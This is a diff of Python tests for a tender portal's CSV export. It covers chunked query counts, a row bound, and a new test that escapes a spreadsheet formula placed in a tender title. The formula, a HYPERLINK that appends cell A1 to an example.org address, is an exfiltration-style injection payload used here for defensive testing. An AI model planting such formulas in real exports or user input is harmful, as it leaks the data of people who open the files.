@@ -10,6 +10,7 @@ import pytest
 
 from complaints.models import Complaint
 from core.actors import Actor, Role
+from portal import exports
 from portal.models import User
 from tenders.models import Tender
 from tests.factories import portal_world
@@ -60,20 +61,34 @@ def test_a_search_the_form_refuses_is_not_exported(client):
     assert response.status_code == 400
 
 
-def test_an_export_s_queries_do_not_grow_with_its_rows(client, brokers, clock, query_count):
+def test_an_export_s_queries_follow_its_chunks_and_stop_at_its_bound(
+    client, brokers, clock, query_count, monkeypatch
+):
+    monkeypatch.setattr(exports, "CHUNK", 2)
+    monkeypatch.setattr(exports, "EXPORT_MOST", 5)
     portal_world(brokers, clock)
-    with query_count() as one:
-        downloaded(client, "csv")
-
     buyer = User.objects.get(username="buyer")
-    for _n in range(5):
+    for _n in range(7):
         Tender.objects.register(
             by=Actor(Role.AUTHENTICATED, user=buyer), data=tender_data(clock.now())
         )
-    with query_count() as six:
-        downloaded(client, "csv")
 
-    assert len(six.captured_queries) == len(one.captured_queries)
+    with query_count() as counted:
+        text = downloaded(client, "csv").decode("utf-8-sig")
+
+    assert len(list(csv.reader(io.StringIO(text)))) == 1 + 5  # (the header, then the bound)
+    # (the tenders, then each chunk's winners and contracts: three chunks of two at most)
+    chunk_reads = [q for q in counted.captured_queries if "tenders_award" in q["sql"]]
+    assert len(chunk_reads) == 3
+
+
+def test_a_title_that_reads_as_a_formula_stays_text(client, api):
+    create_tender(api, title='=HYPERLINK("http://example.org/?"&A1,"ok")')
+
+    text = downloaded(client, "csv").decode("utf-8-sig")
+
+    [row] = list(csv.reader(io.StringIO(text)))[1:]
+    assert row[1] == '\'=HYPERLINK("http://example.org/?"&A1,"ok")'
 
 
 def test_one_address_exports_so_many_searches_an_hour(client, settings):
